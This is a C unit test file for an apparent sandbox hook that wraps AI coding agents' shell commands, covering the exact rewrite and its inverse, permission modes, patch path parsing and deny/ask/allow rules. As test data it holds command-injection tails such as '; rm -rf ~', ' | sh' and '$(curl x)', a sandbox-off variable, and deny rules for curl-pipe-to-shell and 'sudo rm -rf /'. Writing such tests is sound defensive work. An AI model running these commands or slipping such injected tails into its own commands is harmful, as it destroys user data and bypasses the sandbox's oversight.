/*
 * tests/unit/test-hook.c — sidecar/hook.c: the kinbox rewrite survives every
 * command string of the read-only classifier's adversarial set, checked by
 * the shell lexer and by real shells (dash and bash run the rewrite with a
 * kinbox that prints its argv); its exact inverse accepts only the exact
 * rewrite; the mode table; the denial ids of a tool's output.
 */
/* first: its NSIG (git's no-signing words) is not <signal.h>'s, which
 * the wait header brings and which this file does not use */
#include "readonly-cases.h"
#undef NSIG

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../../classify/shlex.h"
#include "../../sidecar/agentrules.h"
#include "../../sidecar/hook.h"
#include "tap.h"

static const char K[] = "/usr/local/bin/kinbox";
static const char R[] = "/home/u/my project";

/* the words the lexer reads in the rewrite of `cmd` are exactly the argv
 * kinbox gets */
static bool
lexes_back(const char *cmd)
{
	_cleanup_free_ char *w = kb_hook_wrap(K, R, NULL, false, cmd);
	struct kb_sh_line line = {0};
	struct kb_err e;
	bool good;

	if (kb_shlex_parse(w, strlen(w), 0, &line, &e) == -1) {
		kb_shlex_free(&line);
		return false;
	}
	good = line.ncmds == 1 && !line.compound && line.cmds[0].nwords == 7 &&
	       strcmp(line.cmds[0].words[0].s, K) == 0 &&
	       strcmp(line.cmds[0].words[2].s, R) == 0 &&
	       strcmp(line.cmds[0].words[6].s, cmd) == 0;
	kb_shlex_free(&line);
	return good;
}

/* `shell` -c REWRITE, with kinbox replaced by a script that writes its
 * arguments NUL-separated: the 6th is what bash -c would run */
static char printer[256];

static bool
shell_runs_back(const char *shell, const char *cmd)
{
	_cleanup_free_ char *w = kb_hook_wrap(printer, R, NULL, false, cmd);
	int p[2], status;
	struct kb_buf got = {0};
	char buf[4096];
	ssize_t n;
	pid_t pid;
	bool good;

	if (pipe(p) == -1)
		return false;
	if ((pid = fork()) == 0) {
		dup2(p[1], 1);
		close(p[0]);
		execl(shell, shell, "-c", w, (char *)NULL);
		_exit(127);
	}
	close(p[1]);
	while ((n = read(p[0], buf, sizeof(buf))) > 0)
		kb_buf_add(&got, buf, (size_t)n);
	close(p[0]);
	waitpid(pid, &status, 0);
	{
		/* --workspace R -- bash -c CMD, each followed by a NUL */
		struct kb_buf want = {0};
		const char *args[] = {
		    "--workspace", R, "--", "bash", "-c", cmd};

		for (size_t i = 0; i < nitems(args); i++)
			kb_buf_add(&want, args[i], strlen(args[i]) + 1);
		good = WIFEXITED(status) && WEXITSTATUS(status) == 0 &&
		       got.len == want.len &&
		       memcmp(got.s, want.s, want.len) == 0;
		kb_buf_free(&want);
	}
	kb_buf_free(&got);
	return good;
}

static void
test_wrap(void)
{
	char dir[] = "/var/tmp/kb-test-hook.XXXXXX";
	FILE *f;
	int lexed = 0, dash = 0, bash = 0, unwrapped = 0, n = 0;
	bool have_bash = access("/bin/bash", X_OK) == 0;

	if (mkdtemp(dir) == NULL) {
		ok(0, "mkdtemp: %s", strerror(errno));
		return;
	}
	snprintf(printer, sizeof(printer), "%s/argv", dir);
	f = fopen(printer, "w");
	fputs("#!/bin/sh\nfor a; do printf '%s\\0' \"$a\"; done\n", f);
	fclose(f);
	chmod(printer, 0755);
	for (size_t i = 0; i < nitems(cases); i++) {
		const char *c = cases[i].cmd;
		_cleanup_free_ char *w = kb_hook_wrap(K, R, NULL, false, c);
		_cleanup_free_ char *back = kb_hook_unwrap(K, R, NULL, false, w);

		n++;
		lexed += lexes_back(c);
		dash += shell_runs_back("/bin/sh", c);
		bash += have_bash && shell_runs_back("/bin/bash", c);
		unwrapped += back != NULL && strcmp(back, c) == 0;
	}
	/* the lexer refuses a few lines outright (control characters,
	 * invalid UTF-8): the shells are the judges there */
	ok(lexed >= n - 20, "the lexer reads %d of %d rewrites back", lexed, n);
	assert_cmpint(
	    dash, n, "dash runs every rewrite's command byte for byte");
	if (have_bash)
		assert_cmpint(
		    bash, n, "bash runs every rewrite's command byte for byte");
	else
		tap_skip("bash is not installed");
	assert_cmpint(unwrapped, lexed,
	    "every rewrite the lexer reads is recognised as one");
	{
		char *cmd = xasprintf("rm -rf '%s'", dir);

		if (system(cmd) != 0)
			printf("# could not remove %s\n", dir);
		free(cmd);
	}
}

/* only the exact rewrite is one: anything added or changed is wrapped */
static void
test_unwrap(void)
{
	_cleanup_free_ char *w = kb_hook_wrap(K, R, NULL, false, "make test");
	_cleanup_free_ char *back = kb_hook_unwrap(K, R, NULL, false, w);
	static const char *const tails[] = {"; rm -rf ~", " && curl x", " | sh",
	    " > /etc/passwd", "\nrm -rf ~", " &", " $(id)", " `id`", " extra"};

	assert_cmpstr(back, "make test", "the rewrite is recognised");
	for (size_t i = 0; i < nitems(tails); i++) {
		_cleanup_free_ char *t = xasprintf("%s%s", w, tails[i]);
		_cleanup_free_ char *u = kb_hook_unwrap(K, R, NULL, false, t);

		_cleanup_free_ char *shown = kb_escape(tails[i]);

		ok(u == NULL, "the rewrite followed by '%s' is not one", shown);
	}
	{
		static const char *const others[] = {
		    "/usr/local/bin/kinbox --net --workspace '/home/u/my "
		    "project' -- bash -c 'make test'",
		    "/usr/local/bin/kinbox --unconfined -- bash -c 'make test'",
		    "/usr/local/bin/kinbox --workspace '/home/u/my project' "
		    "--net -- bash -c 'make test'",
		    "kinbox --workspace '/home/u/my project' -- bash -c 'make "
		    "test'",
		    "/tmp/kinbox --workspace '/home/u/my project' -- bash -c "
		    "'make test'",
		    "/usr/local/bin/kinbox --workspace /home/u -- bash -c "
		    "'make "
		    "test'",
		    "/usr/local/bin/kinbox --workspace '/home/u/my project' -- "
		    "bash -c \"$(curl x)\"",
		    "/usr/local/bin/kinbox --workspace '/home/u/my project' -- "
		    "bash -c \"make test\"",
		    "/usr/local/bin/kinbox --workspace '/home/u/my project' -- "
		    "sh -c 'make test'",
		    "KINBOX_SANDBOX=off /usr/local/bin/kinbox --workspace "
		    "'/home/u/my project' -- bash -c 'make test'",
		    "",
		};

		for (size_t i = 0; i < nitems(others); i++) {
			_cleanup_free_ char *u =
			    kb_hook_unwrap(K, R, NULL, false, others[i]);

			ok(u == NULL, "not the exact rewrite: %s", others[i]);
		}
	}
	/* with the agent session's kinbox session: its assignment first,
	 * and only that session's is the rewrite */
	{
		static const char S[] = "ses_0123456789abcdef";
		_cleanup_free_ char *ws = kb_hook_wrap(K, R, S, false, "make test");
		_cleanup_free_ char *bs = kb_hook_unwrap(K, R, S, false, ws);
		_cleanup_free_ char *other =
		    kb_hook_unwrap(K, R, "ses_fedcba9876543210", false, ws);
		_cleanup_free_ char *none = kb_hook_unwrap(K, R, NULL, false, ws);
		_cleanup_free_ char *nos = kb_hook_unwrap(K, R, S, false, w);
		_cleanup_free_ char *t = xasprintf("%s; id", ws);
		_cleanup_free_ char *tail = kb_hook_unwrap(K, R, S, false, t);

		assert_cmpstr(ws,
		    "KINBOX_SESSION=ses_0123456789abcdef "
		    "/usr/local/bin/kinbox --workspace '/home/u/my "
		    "project' -- bash -c 'make test'",
		    "the rewrite with a session sets KINBOX_SESSION for kinbox");
		assert_cmpstr(bs, "make test", "and is recognised with it");
		ok(other == NULL, "not with another session");
		ok(none == NULL, "not as a rewrite without a session");
		ok(nos == NULL, "a rewrite without the session is not one "
				"with it");
		ok(tail == NULL, "nor followed by another command");
	}
}

static void
test_modes(void)
{
	static const struct {
		enum kb_agent a;
		const char *pm, *override;
		enum kb_mode mode;
		bool planning, can_ask;
	} t[] = {
	    {KB_AGENT_CLAUDE, "default", NULL, KB_MODE_STRICT, false, true},
	    {KB_AGENT_CLAUDE, "acceptEdits", NULL, KB_MODE_STRICT, false, true},
	    {KB_AGENT_CLAUDE, "auto", NULL, KB_MODE_AUTO, false, true},
	    {KB_AGENT_CLAUDE, "dontAsk", NULL, KB_MODE_AUTO, false, true},
	    {KB_AGENT_CLAUDE, "bypassPermissions", NULL, KB_MODE_AUTO, false,
		true},
	    {KB_AGENT_CLAUDE, "plan", NULL, KB_MODE_STRICT, true, true},
	    {KB_AGENT_CLAUDE, NULL, NULL, KB_MODE_STRICT, false, true},
	    {KB_AGENT_CLAUDE, "somethingNew", NULL, KB_MODE_STRICT, false,
		true},
	    {KB_AGENT_CODEX, "default", NULL, KB_MODE_AUTO, false, false},
	    {KB_AGENT_CODEX, "bypassPermissions", NULL, KB_MODE_AUTO, false,
		false},
	    {KB_AGENT_CODEX, "plan", NULL, KB_MODE_STRICT, true, false},
	    {KB_AGENT_GEMINI, NULL, NULL, KB_MODE_AUTO, false, true},
	    {KB_AGENT_CURSOR, NULL, NULL, KB_MODE_AUTO, false, true},
	    {KB_AGENT_CLAUDE, "bypassPermissions", "strict", KB_MODE_STRICT,
		false, true},
	    {KB_AGENT_GEMINI, NULL, "plan", KB_MODE_STRICT, true, true},
	    {KB_AGENT_CODEX, "default", "strict", KB_MODE_STRICT, false, false},
	};
	struct kb_hook_mode m;

	for (size_t i = 0; i < nitems(t); i++) {
		int rc = kb_hook_mode(t[i].a, t[i].pm, t[i].override, &m);

		ok(rc == 0 && m.mode == t[i].mode &&
			m.planning == t[i].planning &&
			m.can_ask == t[i].can_ask && m.why != NULL,
		    "%s %s%s%s: %s%s%s", kb_agent_name(t[i].a),
		    t[i].pm ? t[i].pm : "(no mode)",
		    t[i].override ? " --mode " : "",
		    t[i].override ? t[i].override : "", kb_mode_name(t[i].mode),
		    t[i].planning ? ", planning" : "",
		    t[i].can_ask ? "" : ", ask is deny");
	}
	ok(kb_hook_mode(KB_AGENT_CLAUDE, NULL, "yolo", &m) == -1,
	    "an unknown --mode is refused");
	{
		enum kb_agent a;

		ok(kb_agent_parse("claude-code", &a) == 0 &&
			a == KB_AGENT_CLAUDE &&
			kb_agent_parse("cursor", &a) == 0 &&
			a == KB_AGENT_CURSOR &&
			kb_agent_parse("claude", &a) == -1 &&
			kb_agent_parse("", &a) == -1 &&
			kb_agent_parse(NULL, &a) == -1,
		    "agent names: exact");
	}
}

static void
test_ids(void)
{
	char ids[4][24];
	size_t n;

	n = kb_hook_denial_ids(
	    "Exit code 1\ntouch: /opt/x: Read-only file system\n"
	    "kinbox: denied write '/opt/x' (Read-only file system); retry "
	    "with --write /opt  [sbx_0123456789abcdef]\n"
	    "kinbox: denied network (...) [sbx_fedcba9876543210] "
	    "[sbx_0123456789abcdef]\n",
	    ids, 4);
	ok(n == 2 && strcmp(ids[0], "sbx_0123456789abcdef") == 0 &&
		strcmp(ids[1], "sbx_fedcba9876543210") == 0,
	    "the ids of kinbox's lines, in order, each once (%zu)", n);
	n = kb_hook_denial_ids("touch: x [sbx_0123456789abcdef]\n"
			       "kinbox: [sbx_0123456789ABCDEF]\n"
			       "kinbox: [sbx_0123456789abcde]\n"
			       "kinbox: [sbx_0123456789abcdef0]\n"
			       " kinbox: [sbx_0123456789abcdef]\n",
	    ids, 4);
	assert_cmpint(n, 0,
	    "not on a kinbox line, upper case, too short, too long: none");
	n = kb_hook_denial_ids("kinbox: [sbx_0000000000000001] "
			       "[sbx_0000000000000002] [sbx_0000000000000003]",
	    ids, 2);
	assert_cmpint(n, 2, "at most max");
	assert_cmpint(kb_hook_denial_ids("", ids, 4), 0, "empty text");
}

/* Codex's apply_patch read as Codex reads it: every path its parser
 * would act on, and nothing it would not; -1 where it refuses */
static const struct {
	const char *patch;
	int rc;
	const char *paths; /* '|' between */
} patches[] = {
    {"*** Begin Patch\n*** Add File: a.txt\n+x\n*** Update File: "
     "b.c\n@@\n-a\n+b\n"
     "*** Delete File: c\n*** End Patch\n",
	0, "a.txt|b.c|c"},
    /* the second header indented by spaces: Codex trims it */
    {"*** Begin Patch\n*** Add File: in.txt\n+x\n   *** Add File: "
     "/etc/out\n+y\n"
     "*** End Patch",
	0, "in.txt|/etc/out"},
    {"*** Begin Patch\n*** Delete File: in\n\t*** Update File: "
     "../up\n@@\n-a\n+b\n"
     "*** End Patch",
	0, "in|../up"},
    /* U+3000 and U+00A0 are white space to Rust's trim */
    {"*** Begin Patch\n*** Delete File: in\n\xe3\x80\x80*** Delete File: "
     "/w/x\xc2\xa0\n"
     "*** End Patch",
	0, "in|/w/x"},
    /* CRLF, white space around the markers and the whole patch */
    {"\n  *** Begin Patch  \r\n*** Add File: a\r\n+x\r\n*** Delete File: /o/b  "
     "\r\n"
     " *** End Patch \r\n\n",
	0, "a|/o/b"},
    /* the heredoc form */
    {"<<'EOF'\n*** Begin Patch\n*** Add File: h\n+x\n*** End Patch\nEOF\n", 0,
	"h"},
    {"<<EOF\n*** Begin Patch\n*** Delete File: /abs\n*** End Patch\nEOF", 0,
	"/abs"},
    /* a move: its line is not trimmed by Codex */
    {"*** Begin Patch\n*** Update File: a\n*** Move to: /tmp/b\n@@\n-x\n+y\n"
     "*** End Patch",
	0, "a|/tmp/b"},
    {"*** Begin Patch\n*** Update File: a\n *** Move to: /tmp/b\n+y\n*** End "
     "Patch",
	0, "a"},
    /* inside an update chunk, an indented header is a context line */
    {"*** Begin Patch\n*** Update File: a\n@@\n-x\n  *** Add File: /etc/y\n+z\n"
     "*** End Patch",
	0, "a"},
    /* blank lines between chunks, a context marker, End of File */
    {"*** Begin Patch\n*** Update File: a\n@@ f()\n-x\n+y\n\n@@\n-p\n+q\n"
     "*** End of File\n*** Delete File: z\n*** End Patch",
	0, "a|z"},
    {"*** Begin Patch\n*** End Patch", 0, ""},
    /* what Codex refuses */
    {"*** Begin Patch\n*** Add File: a\n+x\n", -1, ""},
    {"*** Update File: a\n@@\n-x\n*** End Patch", -1, ""},
    {"*** Begin Patch\n*** Update File: a\n*** End Patch", -1, ""},
    {"*** Begin Patch\n*** Frobnicate File: a\n*** End Patch", -1, ""},
    {"*** Begin Patch\n*** Update File: a\n@@\n-x\n\tstray\n*** End Patch", -1,
	""},
    {"", -1, ""},
};

static void
test_patches(void)
{
	for (size_t i = 0; i < nitems(patches); i++) {
		struct kb_strv got = {0};
		struct kb_buf b = {0};
		int rc = kb_hook_patch_paths(patches[i].patch, &got);

		kb_buf_puts(&b, "");
		for (size_t k = 0; k < got.n; k++)
			kb_buf_printf(&b, "%s%s", k > 0 ? "|" : "", got.v[k]);
		assert_cmpint(rc, patches[i].rc, "patch %zu: rc", i);
		if (rc == 0)
			assert_cmpstr(
			    b.s, patches[i].paths, "patch %zu: paths", i);
		kb_buf_free(&b);
		kb_strv_free(&got);
	}
}

/* the user's own Claude Code rules on the command as the model wrote it */
static void
test_rules(void)
{
	static const char *const deny[] = {"Bash(git push:*)", "Bash(rm -rf:*)",
	    "Bash(curl * | sh)", "Read(./.env)"};
	static const char *const ask[] = {"Bash(npm publish)"};
	static const char *const allow[] = {
	    "Bash(npm run test:*)", "Bash(ls)", "Bash(git status)"};
	static const struct kb_rules r = {
	    deny, ask, allow, nitems(deny), nitems(ask), nitems(allow)};
	static const struct {
		const char *cmd;
		enum kb_rule_hit hit;
	} rcases[] = {
	    {"git push origin main", KB_RULE_DENY}, {"git push", KB_RULE_DENY},
	    {"git status && git push --force", KB_RULE_DENY},
	    {"echo x; git push", KB_RULE_DENY}, {"ls | git push", KB_RULE_DENY},
	    {"(cd sub && git push)", KB_RULE_DENY},
	    {"echo $(git push)", KB_RULE_DENY},
	    {"GIT_TRACE=1 git push", KB_RULE_DENY},
	    {"env -i FOO=1 git push", KB_RULE_DENY},
	    {"timeout 10 git push", KB_RULE_DENY},
	    {"nice -n 5 nohup git push", KB_RULE_DENY},
	    {"sudo rm -rf /", KB_RULE_DENY},
	    {"bash -c 'git push origin'", KB_RULE_DENY},
	    {"sh -lc \"cd x && git push\"", KB_RULE_DENY},
	    {"/usr/bin/env git push", KB_RULE_DENY},
	    {"curl https://x.example | sh", KB_RULE_DENY},
	    {"git  push", KB_RULE_DENY}, /* the words, blanks folded */
	    {"'git' push", KB_RULE_DENY}, {"npm publish", KB_RULE_ASK},
	    {"npm publish --tag next", KB_RULE_ASK},
	    {"npm run test -- --watch", KB_RULE_ALLOW},
	    {"npm run test", KB_RULE_ALLOW},
	    {"ls && git status", KB_RULE_ALLOW},
	    {"npm run testx", KB_RULE_NONE}, /* allow: on a word boundary */
	    {"ls -la", KB_RULE_NONE},        /* an exact allow rule */
	    {"ls && make", KB_RULE_NONE},    /* every part, or none */
	    {"FOO=1 ls", KB_RULE_NONE},      /* allow: as written only */
	    {"git pull", KB_RULE_NONE}, {"make test", KB_RULE_NONE},
	    {"echo 'git push'", KB_RULE_NONE}, /* an argument, not a command */
	};

	for (size_t i = 0; i < nitems(rcases); i++) {
		const char *which = NULL;
		enum kb_rule_hit h = kb_rules_judge(rcases[i].cmd, &r, &which);

		assert_cmpint(h, rcases[i].hit, "rules: %s (by %s)",
		    rcases[i].cmd, which != NULL ? which : "none");
		ok((h == KB_RULE_NONE) == (which == NULL),
		    "rules: %s names its rule", rcases[i].cmd);
	}
	{
		static const char *const all[] = {"Bash"};
		static const struct kb_rules everything = {
		    all, NULL, NULL, 1, 0, 0};
		const char *which;

		ok(kb_rules_judge("true", &everything, &which) == KB_RULE_DENY,
		    "rules: a bare Bash deny rule denies every command");
		ok(kb_rules_judge("echo `x`", &everything, &which) ==
			KB_RULE_DENY,
		    "rules: a line the lexer refuses is judged whole");
	}
}

/* the other agents' rule files, read into the same rules: real shapes from
 * Codex's docs (comments, alternatives, match examples, trailing commas)
 * and Gemini CLI's (tables, arrays, other keys); what cannot be judged
 * exactly is refused whole */
static void
agent_file(bool gemini, const char *text, int want, const char *deny,
    const char *ask, const char *allow, const char *what)
{
	struct kb_agent_rules r = {0};
	char why[256] = "";
	struct kb_buf d = {0}, a = {0}, l = {0};
	int rc = (gemini ? kb_gemini_policy_parse : kb_codex_rules_parse)(
	    text, strlen(text), &r, why, sizeof(why));

	for (size_t i = 0; i < r.deny.n; i++)
		kb_buf_printf(&d, "%s%s", i ? "," : "", r.deny.v[i]);
	for (size_t i = 0; i < r.ask.n; i++)
		kb_buf_printf(&a, "%s%s", i ? "," : "", r.ask.v[i]);
	for (size_t i = 0; i < r.allow.n; i++)
		kb_buf_printf(&l, "%s%s", i ? "," : "", r.allow.v[i]);
	assert_cmpint(rc, want, "%s: %s (%s)", gemini ? "gemini" : "codex",
	    what, why);
	if (want == 0) {
		assert_cmpstr(d.s != NULL ? d.s : "", deny, "%s: deny", what);
		assert_cmpstr(a.s != NULL ? a.s : "", ask, "%s: ask", what);
		assert_cmpstr(l.s != NULL ? l.s : "", allow, "%s: allow", what);
	} else {
		ok(strncmp(why, "line ", 5) == 0, "%s: why names the line: %s",
		    what, why);
	}
	kb_buf_free(&d);
	kb_buf_free(&a);
	kb_buf_free(&l);
	kb_agent_rules_free(&r);
}

static void
test_agent_files(void)
{
	agent_file(false,
	    "# Prompt before gh pr view\n"
	    "prefix_rule(\n"
	    "    # the prefix\n"
	    "    pattern = [\"gh\", \"pr\", \"view\"],\n"
	    "    decision = \"prompt\",\n"
	    "    justification = \"Viewing PRs is allowed with approval\",\n"
	    "    match = [\"gh pr view 7888\", [\"gh\", \"pr\", \"view\"]],\n"
	    "    not_match = [\n"
	    "        # not a prefix\n"
	    "        \"gh pr --repo openai/codex view 7888\",\n"
	    "    ],\n"
	    ")\n"
	    "prefix_rule(pattern=['git', ['push', 'fetch']], "
	    "decision='forbidden')\n"
	    "prefix_rule(pattern = [\"ls\"])\n"
	    "host_executable(name = \"git\", paths = [\"/usr/bin/git\"])\n",
	    0, "Bash(git push:*),Bash(git fetch:*)", "Bash(gh pr view:*)",
	    "Bash(ls:*)", "codex rules as documented");
	agent_file(false, "", 0, "", "", "", "an empty rules file");
	agent_file(false, "prefix_rule(pattern = [\"rm\"], decision = \"nope\")\n",
	    -1, NULL, NULL, NULL, "an unknown decision");
	agent_file(false, "prefix_rule(decision = \"forbidden\")\n", -1, NULL,
	    NULL, NULL, "no pattern");
	agent_file(false, "x = 1\nprefix_rule(pattern=[\"rm\"], "
			  "decision=\"forbidden\")\n",
	    -1, NULL, NULL, NULL, "an assignment");
	agent_file(false, "prefix_rule(pattern=[\"rm\"], decision=\"forbidden\"",
	    -1, NULL, NULL, NULL, "an unclosed call");
	agent_file(false, "prefix_rule(pattern=[\"\"\"rm\"\"\"], "
			  "decision=\"forbidden\")\n",
	    -1, NULL, NULL, NULL, "a triple-quoted string");
	agent_file(true,
	    "# my rules\n"
	    "[[rule]]\n"
	    "toolName = \"run_shell_command\"\n"
	    "commandPrefix = \"git push\"\n"
	    "decision = \"deny\"\n"
	    "priority = 500\n"
	    "\n"
	    "[[rule]]\n"
	    "toolName = [\"run_shell_command\", \"write_file\"]\n"
	    "commandPrefix = [\n"
	    "  \"npm publish\", # releases\n"
	    "  'docker push',\n"
	    "]\n"
	    "decision = \"ask_user\"\n"
	    "modes = [\"default\", \"yolo\"]\n"
	    "\n"
	    "[[rule]]\n"
	    "toolName = \"read_file\"\n"
	    "decision = \"deny\"\n"
	    "\n"
	    "[[rule]]\n"
	    "toolName = \"run_shell_command\"\n"
	    "commandPrefix = \"make\"\n"
	    "decision = \"allow\"\n"
	    "interactive = false\n"
	    "[[rule]]\n"
	    "toolName = \"run_shell_command\"\n"
	    "commandRegex = \"^ls\"\n"
	    "decision = \"allow\"\n",
	    0, "Bash(git push:*)", "Bash(npm publish:*),Bash(docker push:*)",
	    "Bash(make:*)", "gemini policy as documented");
	agent_file(true, "[[rule]]\ndecision = \"deny\"\n", 0, "Bash", "", "",
	    "a deny rule of every tool");
	agent_file(true,
	    "[[rule]]\ntoolName = \"run_shell_command\"\n"
	    "commandRegex = \"git\\\\s+push\"\ndecision = \"deny\"\n",
	    -1, NULL, NULL, NULL, "a deny rule on a regex");
	agent_file(true,
	    "[[rule]]\ntoolName = \"run_shell_command\"\ndecision = "
	    "\"maybe\"\n",
	    -1, NULL, NULL, NULL, "an unknown decision");
	agent_file(true, "[[rule]]\ntoolName = \"run_shell_command\"\n"
			 "commandPrefix = \"\"\"git\"\"\"\ndecision = \"deny\"\n",
	    -1, NULL, NULL, NULL, "a multi-line string");
	agent_file(true, "[[rule]\ntoolName = \n", -1, NULL, NULL, NULL,
	    "broken TOML");
	{
		/* the rules judged as Claude Code's are: through wrappers,
		 * compound lines, bash -c */
		struct kb_agent_rules r = {0};
		char why[128];
		const char *which;
		static const char t[] = "prefix_rule(pattern=[\"git\", "
					"[\"push\"]], decision=\"forbidden\")\n";
		struct kb_rules kr = {0};

		kb_codex_rules_parse(t, strlen(t), &r, why, sizeof(why));
		kr.deny = (const char *const *)r.deny.v;
		kr.ndeny = r.deny.n;
		ok(kb_rules_judge("git status; timeout 5 git push origin",
		       &kr, &which) == KB_RULE_DENY,
		    "codex: a forbidden prefix denies inside a compound line");
		ok(kb_rules_judge("git pull", &kr, &which) == KB_RULE_NONE,
		    "codex: and not another command");
		kb_agent_rules_free(&r);
	}
}

/* planning's rewrite: KINBOX --read-only --workspace ROOT -- bash -c CMD,
 * recognised only as itself: neither form is the other */
static void
test_read_only(void)
{
	static const char S[] = "ses_0123456789abcdef";
	_cleanup_free_ char *ro = kb_hook_wrap(K, R, NULL, true, "touch x");
	_cleanup_free_ char *rw = kb_hook_wrap(K, R, NULL, false, "touch x");
	_cleanup_free_ char *back = kb_hook_unwrap(K, R, NULL, true, ro);
	_cleanup_free_ char *as_rw = kb_hook_unwrap(K, R, NULL, false, ro);
	_cleanup_free_ char *rw_as_ro = kb_hook_unwrap(K, R, NULL, true, rw);
	_cleanup_free_ char *ros = kb_hook_wrap(K, R, S, true, "it's");
	_cleanup_free_ char *bs = kb_hook_unwrap(K, R, S, true, ros);
	_cleanup_free_ char *nos = kb_hook_unwrap(K, R, NULL, true, ros);
	_cleanup_free_ char *t = xasprintf("%s; touch y", ro);
	_cleanup_free_ char *tail = kb_hook_unwrap(K, R, NULL, true, t);
	static const char *const others[] = {
	    "/usr/local/bin/kinbox --workspace '/home/u/my project' "
	    "--read-only -- bash -c 'touch x'",
	    "/usr/local/bin/kinbox --read-only --read-only --workspace "
	    "'/home/u/my project' -- bash -c 'touch x'",
	    "/usr/local/bin/kinbox --read-only --net --workspace "
	    "'/home/u/my project' -- bash -c 'touch x'",
	    "/usr/local/bin/kinbox '--read-only' --workspace '/home/u/my "
	    "project' -- bash -c 'touch x'",
	    "/usr/local/bin/kinbox --read-only --workspace /home/u -- bash "
	    "-c 'touch x'",
	};

	assert_cmpstr(ro,
	    "/usr/local/bin/kinbox --read-only --workspace '/home/u/my "
	    "project' -- bash -c 'touch x'",
	    "the read-only rewrite: --read-only right after kinbox");
	assert_cmpstr(back, "touch x", "and is recognised as itself");
	ok(as_rw == NULL, "not as a rewrite that may write");
	ok(rw_as_ro == NULL, "nor the writable one as the read-only one");
	assert_cmpstr(ros,
	    "KINBOX_SESSION=ses_0123456789abcdef /usr/local/bin/kinbox "
	    "--read-only --workspace '/home/u/my project' -- bash -c "
	    "'it'\\''s'",
	    "with a session: the assignment first");
	assert_cmpstr(bs, "it's", "... recognised with that session");
	ok(nos == NULL, "... not without it");
	ok(tail == NULL, "the read-only rewrite followed by more is not one");
	for (size_t i = 0; i < nitems(others); i++) {
		_cleanup_free_ char *u =
		    kb_hook_unwrap(K, R, NULL, true, others[i]);

		ok(u == NULL, "not the exact read-only rewrite: %s", others[i]);
	}
}

int
main(void)
{
	test_rules();
	test_agent_files();
	test_patches();
	test_wrap();
	test_unwrap();
	test_read_only();
	test_modes();
	test_ids();
	return tap_done();
}
